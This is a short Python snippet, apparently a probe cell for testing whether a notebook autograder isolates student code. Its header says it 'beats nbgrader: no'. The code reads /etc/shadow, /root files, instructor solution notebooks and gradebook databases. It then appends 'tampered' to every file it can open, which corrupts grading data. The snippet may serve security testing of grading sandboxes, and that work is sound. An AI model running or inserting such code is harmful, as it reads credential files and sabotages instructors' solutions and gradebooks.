# Reads secrets and the instructor's files, and writes into the course: the gradebook, the sources.
# honest:
# beats nbgrader: no
# %% insert after: setup
import glob
import os

found = []
for pattern in ("/etc/shadow", "/root/*", "/work/*/solutions/*/*.ipynb", "/tmp/minigrad-worker-*/**/*.ipynb",
                "/tmp/**/gradebook.db", "/tmp/pytest-of-*/**/solutions/*/*.ipynb"):
    for path in glob.glob(pattern, recursive=True)[:20]:
        try:
            with open(path, "rb") as handle:
                found.append((path, len(handle.read())))
            with open(path, "ab") as handle:
                handle.write(b"tampered")
        except OSError:
            pass
print("read:", found)
